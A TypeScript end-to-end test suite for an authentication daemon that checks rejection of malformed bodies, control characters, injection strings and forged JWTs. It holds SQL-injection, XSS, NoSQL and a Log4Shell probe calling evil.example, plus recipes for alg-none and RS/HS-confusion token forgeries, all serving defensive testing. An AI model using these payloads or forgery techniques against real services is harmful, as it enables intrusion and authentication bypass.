/**
 * Bad input against the spawned daemon: every case gets the documented error body
 * {detail, error_code, status_code} and changes nothing in the database. Forged, expired and tampered tokens
 * are built with the daemon's real keys (read from the database and opened with the shared master key).
 */
import assert from 'node:assert/strict';
import { createHmac, createPublicKey, generateKeyPairSync, randomUUID } from 'node:crypto';
import { before, describe, test } from 'node:test';
import { importPKCS8, SignJWT } from 'jose';
import { sql } from 'kysely';
import { SecretBox } from '../../src/core/crypto/secrets.js';
import { openPrivateKey } from '../../src/core/keys/keys.js';
import { signingKeys } from '../../src/core/store/repos/signing-keys.js';
import type { Store } from '../../src/core/store/store.js';
import { breaksTextRule } from '../../src/core/text.js';
import { dialects } from '../helpers/db.js';
import { type Daemon, newMasterKey } from '../helpers/janua.js';
import { ADMIN_ENV, controlCharCases, textFixtures } from './control-chars.js';
import {
  AUTH,
  assertError,
  type Call,
  type CallOptions,
  decodeJwt,
  e2eDaemon,
  eventually,
  PASSWORD,
  rowCounts,
  type Session,
  signUp,
  snapshot,
  uniqueEmail,
} from './support.js';

interface Case {
  name: string;
  method?: 'GET' | 'POST' | 'PATCH' | 'PUT' | 'DELETE';
  path: string;
  opts?: CallOptions;
  /** Needs the signed-in user's bearer token. */
  auth?: boolean;
  status: number;
  code: string;
}

const INJECTIONS = [
  "' OR '1'='1",
  "admin@example.com'; DROP TABLE users; --",
  '"; DELETE FROM sessions; --',
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, meant literally.
  '${jndi:ldap://evil.example/a}',
  '{"$ne": null}',
];

const b64 = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url');

for (const dialect of dialects()) {
  describe(`e2e bad input (${dialect})`, () => {
    let d: Daemon;
    let call: Call;
    let store: Store;
    let victim: Session;
    const masterKey = newMasterKey();

    e2eDaemon(dialect, { JANUA_MASTER_KEY: masterKey, ...ADMIN_ENV }, (f) => {
      ({ d, call, store } = f);
    });
    before(async () => {
      victim = await signUp(call, uniqueEmail('victim'));
    });

    /** Runs one bad request and checks its error body and that the counted tables did not change. */
    async function expectRejected(c: Case): Promise<void> {
      const before = await rowCounts(store);
      const opts = { ...c.opts, ...(c.auth ? { token: victim.access_token } : {}) };
      const res = await call(c.method ?? 'POST', c.path, opts);
      assertError(res, c.status, c.code, c.name);
      assert.deepEqual(await rowCounts(store), before, `${c.name} changed nothing`);
    }

    const bodyCases = (victimEmail: string): Case[] => [
      {
        name: 'malformed JSON',
        path: `${AUTH}/signup`,
        opts: { body: '{"email": "a@b.co", ' },
        status: 400,
        code: 'BAD_REQUEST',
      },
      {
        name: 'malformed JSON (signin)',
        path: `${AUTH}/signin`,
        opts: { body: '{bad' },
        status: 400,
        code: 'BAD_REQUEST',
      },
      {
        // An empty JSON body is no body (API.md, bodyless actions): sign-in names the fields it needs.
        name: 'empty JSON body',
        path: `${AUTH}/signin`,
        opts: { body: '' },
        status: 422,
        code: 'VALIDATION_ERROR',
      },
      {
        name: 'JSON null body',
        path: `${AUTH}/signup`,
        opts: { body: 'null' },
        status: 422,
        code: 'VALIDATION_ERROR',
      },
      {
        name: 'JSON array body',
        path: `${AUTH}/signin`,
        opts: { body: '[]' },
        status: 422,
        code: 'VALIDATION_ERROR',
      },
      {
        name: 'form-encoded body',
        path: `${AUTH}/signin`,
        opts: {
          body: 'email=a@b.co&password=x',
          headers: { 'content-type': 'application/x-www-form-urlencoded' },
        },
        status: 415,
        code: 'UNSUPPORTED_MEDIA_TYPE',
      },
      {
        name: 'text/plain body',
        path: `${AUTH}/signin`,
        opts: { body: 'email=a@b.co&password=x', headers: { 'content-type': 'text/plain' } },
        status: 422,
        code: 'VALIDATION_ERROR',
      },
      {
        name: 'email is a number',
        path: `${AUTH}/signup`,
        opts: { body: { email: 42, password: PASSWORD } },
        status: 422,
        code: 'VALIDATION_ERROR',
      },
      {
        name: 'password is a number',
        path: `${AUTH}/signin`,
        opts: { body: { email: 'a@b.co', password: 123456789012 } },
        status: 422,
        code: 'VALIDATION_ERROR',
      },
      {
        name: 'email is an array',
        path: `${AUTH}/signup`,
        opts: { body: { email: ['a@b.co'], password: PASSWORD } },
        status: 422,
        code: 'VALIDATION_ERROR',
      },
      {
        name: 'first_name is an object',
        path: `${AUTH}/signup`,
        opts: { body: { email: uniqueEmail('t'), password: PASSWORD, first_name: { x: 1 } } },
        status: 422,
        code: 'VALIDATION_ERROR',
      },
      {
        name: 'refresh_token is a boolean',
        path: `${AUTH}/token/refresh`,
        opts: { body: { refresh_token: true } },
        status: 422,
        code: 'VALIDATION_ERROR',
      },
      {
        name: 'user_metadata is a string',
        method: 'PATCH',
        path: `${AUTH}/profile`,
        auth: true,
        opts: { body: { user_metadata: 'x' } },
        status: 422,
        code: 'VALIDATION_ERROR',
      },
      {
        name: 'missing password',
        path: `${AUTH}/signup`,
        opts: { body: { email: uniqueEmail('t') } },
        status: 422,
        code: 'VALIDATION_ERROR',
      },
      {
        name: 'missing email',
        path: `${AUTH}/signin`,
        opts: { body: { password: PASSWORD } },
        status: 422,
        code: 'VALIDATION_ERROR',
      },
      {
        name: 'empty object',
        path: `${AUTH}/signup`,
        opts: { body: {} },
        status: 422,
        code: 'VALIDATION_ERROR',
      },
      {
        name: 'missing refresh_token',
        path: `${AUTH}/token/refresh`,
        opts: { body: {} },
        status: 422,
        code: 'VALIDATION_ERROR',
      },
      {
        name: 'invalid email',
        path: `${AUTH}/signup`,
        opts: { body: { email: 'not-an-email', password: PASSWORD } },
        status: 422,
        code: 'VALIDATION_ERROR',
      },
      {
        name: 'name too long',
        path: `${AUTH}/signup`,
        opts: { body: { email: uniqueEmail('t'), password: PASSWORD, first_name: 'x'.repeat(101) } },
        status: 422,
        code: 'VALIDATION_ERROR',
      },
      {
        name: 'password over 72 bytes',
        path: `${AUTH}/signup`,
        opts: { body: { email: uniqueEmail('t'), password: `Aa1!${'é'.repeat(40)}` } },
        status: 422,
        code: 'VALIDATION_ERROR',
      },
      {
        name: '2 MB body',
        path: `${AUTH}/signup`,
        opts: {
          body: { email: uniqueEmail('big'), password: PASSWORD, first_name: 'x'.repeat(2 * 1024 * 1024) },
        },
        status: 413,
        code: 'PAYLOAD_TOO_LARGE',
      },
      {
        name: 'unknown route',
        method: 'GET',
        path: '/api/v1/no-such-thing',
        status: 404,
        code: 'NOT_FOUND_ERROR',
      },
      {
        name: 'unknown auth route',
        path: `${AUTH}/no-such-thing`,
        opts: { body: {} },
        status: 404,
        code: 'NOT_FOUND_ERROR',
      },
      { name: 'wrong method', method: 'GET', path: `${AUTH}/signin`, status: 404, code: 'NOT_FOUND_ERROR' },
      ...INJECTIONS.flatMap((s): Case[] => [
        {
          name: `injection as signup email: ${s}`,
          path: `${AUTH}/signup`,
          opts: { body: { email: s, password: PASSWORD } },
          status: 422,
          code: 'VALIDATION_ERROR',
        },
        {
          name: `injection as username: ${s}`,
          path: `${AUTH}/signup`,
          opts: { body: { email: uniqueEmail('inj'), password: PASSWORD, username: s } },
          status: 422,
          code: 'VALIDATION_ERROR',
        },
        {
          name: `injection as signin email: ${s}`,
          path: `${AUTH}/signin`,
          opts: { body: { email: s, password: s } },
          status: 401,
          code: 'AUTHENTICATION_ERROR',
        },
        {
          name: `injection as password: ${s}`,
          path: `${AUTH}/signin`,
          opts: { body: { email: victimEmail, password: s } },
          status: 401,
          code: 'AUTHENTICATION_ERROR',
        },
        {
          name: `injection as refresh token: ${s}`,
          path: `${AUTH}/token/refresh`,
          opts: { body: { refresh_token: s } },
          status: 401,
          code: 'TOKEN_ERROR',
        },
      ]),
    ];

    test('malformed, mistyped, missing, oversized and injected input: documented error, nothing changed', async () => {
      const cases = bodyCases(victim.user.email);
      assert.ok(cases.length > 40);
      for (const c of cases) await expectRejected(c);
      // The victim's session is untouched by all of it.
      assert.equal((await call('GET', `${AUTH}/me`, { token: victim.access_token })).status, 200);
    });

    test('control characters in bodies, object keys, paths and queries: 422 before any database work, nothing changed', async () => {
      const cases = controlCharCases(await textFixtures(call));
      assert.ok(cases.length > 100, `${cases.length} cases`);
      for (const c of cases) {
        const before = await snapshot(store);
        const res = await call(c.method, c.path, {
          ...(c.body === undefined ? {} : { body: c.body }),
          ...(c.token ? { token: c.token } : {}),
        });
        assertError(res, 422, 'VALIDATION_ERROR', c.name);
        // Refused for the character (not for some other flaw), naming the field and never echoing it.
        assert.match(res.body.detail, /must not contain (the NUL character|control characters)/, c.name);
        assert.equal(breaksTextRule(res.body.detail, 'single-line'), false, c.name);
        assert.deepEqual(await snapshot(store), before, `${c.name} changed nothing`);
      }
    });

    test('injection strings in names and a legal email are stored verbatim, as data', async () => {
      const email = `o'brien+${Date.now()}@example.com`;
      const first = "Robert'); DROP TABLE users;--";
      const last = '<script>alert(1)</script>';
      const before = await rowCounts(store);
      const s = await signUp(call, email, { first_name: first, last_name: last });
      assert.equal(s.user.email, email);
      assert.equal(s.user.first_name, first);
      assert.equal(s.user.last_name, last);
      const me = await call('GET', `${AUTH}/me`, { token: s.access_token });
      assert.match(String(me.headers['content-type']), /^application\/json/);
      assert.equal(me.body.last_name, last);
      const after = await rowCounts(store);
      assert.equal(after['users'], before['users']! + 1, 'exactly one user more; the table is still there');
      const row = await store.db
        .selectFrom('users')
        .select(['first_name', 'last_name'])
        .where('email', '=', email)
        .executeTakeFirstOrThrow();
      assert.deepEqual(row, { first_name: first, last_name: last });
    });

    async function activeKey() {
      const rows = await signingKeys.list(store.db);
      const row = rows.find((k) => k.state === 'active');
      assert.ok(row, 'an active signing key');
      const pem = openPrivateKey(new SecretBox(Buffer.from(masterKey, 'base64')), row);
      return { kid: row.kid, key: await importPKCS8(pem, 'RS256'), jwk: row.publicJwk };
    }

    /** A token signed with the daemon's real active key; `claims` and `times` override the genuine ones. */
    async function realKeyToken(
      claims: Record<string, unknown> = {},
      times: { iat?: number; exp?: number } = {},
    ) {
      const { kid, key } = await activeKey();
      const genuine = decodeJwt(victim.access_token).payload;
      const now = Math.floor(Date.now() / 1000);
      return new SignJWT({ sid: genuine['sid'], type: 'access', email: genuine['email'], ...claims })
        .setProtectedHeader({ alg: 'RS256', kid, typ: 'JWT' })
        .setIssuer(String(claims['iss'] ?? d.url))
        .setAudience(String(claims['aud'] ?? 'janua.dev'))
        .setSubject(String(genuine['sub']))
        .setJti(randomUUID())
        .setIssuedAt(times.iat ?? now)
        .setExpirationTime(times.exp ?? now + 600)
        .sign(key);
    }

    test('a token minted here with the real key is accepted (the forgeries below fail for their flaw alone)', async () => {
      const res = await call('GET', `${AUTH}/me`, { token: await realKeyToken() });
      assert.equal(res.status, 200, res.text);
      assert.equal(res.body.id, victim.user.id);
    });

    test('GET /auth/me refuses missing, forged, expired and tampered tokens', async () => {
      const genuine = victim.access_token;
      const [h, p, sig] = genuine.split('.') as [string, string, string];
      const header = decodeJwt(genuine).header;
      const payload = decodeJwt(genuine).payload;
      const now = Math.floor(Date.now() / 1000);
      const { jwk } = await activeKey();

      // HS256 keyed with the public key (the classic RS/HS confusion): sign with the PEM and with the JWK's n.
      const publicPem = createPublicKey({ key: jwk as never, format: 'jwk' }).export({
        type: 'spki',
        format: 'pem',
      });
      const hsHeader = b64({ alg: 'HS256', typ: 'JWT', kid: header['kid'] });
      const hsSig = createHmac('sha256', publicPem).update(`${hsHeader}.${p}`).digest('base64url');

      const stranger = generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey;
      const unknownKid = await new SignJWT({ ...payload })
        .setProtectedHeader({ alg: 'RS256', kid: 'no-such-kid', typ: 'JWT' })
        .sign(stranger);
      const strangerWithRealKid = await new SignJWT({ ...payload })
        .setProtectedHeader({ alg: 'RS256', kid: String(header['kid']), typ: 'JWT' })
        .sign(stranger);

      const tokens: Array<[string, string]> = [
        ['alg none', `${b64({ alg: 'none', typ: 'JWT', kid: header['kid'] })}.${p}.`],
        ['alg none without kid', `${b64({ alg: 'none' })}.${p}.`],
        ['HS256 keyed with the public key', `${hsHeader}.${p}.${hsSig}`],
        ['expired (real key)', await realKeyToken({}, { iat: now - 7200, exp: now - 3600 })],
        ['tampered payload (sub)', `${h}.${b64({ ...payload, sub: randomUUID() })}.${sig}`],
        [
          'tampered payload (exp)',
          `${h}.${b64({ ...payload, exp: (payload['exp'] as number) + 3600 })}.${sig}`,
        ],
        ['tampered signature', `${h}.${p}.${sig.slice(0, -4)}${sig.slice(-4) === 'AAAA' ? 'BBBB' : 'AAAA'}`],
        ['unknown kid', unknownKid],
        ['foreign key claiming the real kid', strangerWithRealKid],
        ['wrong audience (real key)', await realKeyToken({ aud: 'someone-else' })],
        ['wrong issuer (real key)', await realKeyToken({ iss: 'https://evil.example' })],
        ['not an access token (real key)', await realKeyToken({ type: 'refresh' })],
        ['unknown session (real key)', await realKeyToken({ sid: randomUUID() })],
        ['garbage', 'not.a.jwt'],
        ['one segment', 'abc'],
        ['refresh token as bearer', victim.refresh_token],
      ];

      await expectRejected({
        name: 'no token',
        method: 'GET',
        path: `${AUTH}/me`,
        status: 401,
        code: 'AUTHENTICATION_ERROR',
      });
      await expectRejected({
        name: 'Basic credentials',
        method: 'GET',
        path: `${AUTH}/me`,
        opts: {
          headers: {
            authorization: `Basic ${Buffer.from(`${victim.user.email}:${PASSWORD}`).toString('base64')}`,
          },
        },
        status: 401,
        code: 'TOKEN_ERROR',
      });
      for (const [name, token] of tokens) {
        await expectRejected({
          name,
          method: 'GET',
          path: `${AUTH}/me`,
          opts: { headers: { authorization: `Bearer ${token}` } },
          status: 401,
          code: 'TOKEN_ERROR',
        });
      }
      // The genuine token is still fine after all that.
      assert.equal((await call('GET', `${AUTH}/me`, { token: genuine })).status, 200);
    });

    test('a 500 carries the request id and never a stack or a database message', async () => {
      // Break the database under the running daemon, then put it back.
      await sql`ALTER TABLE sessions RENAME TO sessions_broken`.execute(store.db);
      try {
        const res = await call('GET', `${AUTH}/me`, {
          token: victim.access_token,
          headers: { 'x-request-id': 'e2e-500-check' },
        });
        assertError(res, 500, 'INTERNAL_ERROR', 'broken database');
        assert.equal(res.headers['x-request-id'], 'e2e-500-check');
        assert.match(res.body.detail, /e2e-500-check/);
        assert.doesNotMatch(res.text, /sessions|sqlite|relation|select|stack/i);
      } finally {
        await sql`ALTER TABLE sessions_broken RENAME TO sessions`.execute(store.db);
      }
      assert.equal((await call('GET', `${AUTH}/me`, { token: victim.access_token })).status, 200);
      // The stack went to the log instead (lines reach the pipe asynchronously: wait for it).
      await eventually('the error logged with its request id', 5000, async () =>
        d.logs.some((l) => l.includes('e2e-500-check') && l.includes('unhandled error')) ? true : undefined,
      );
    });
  });
}
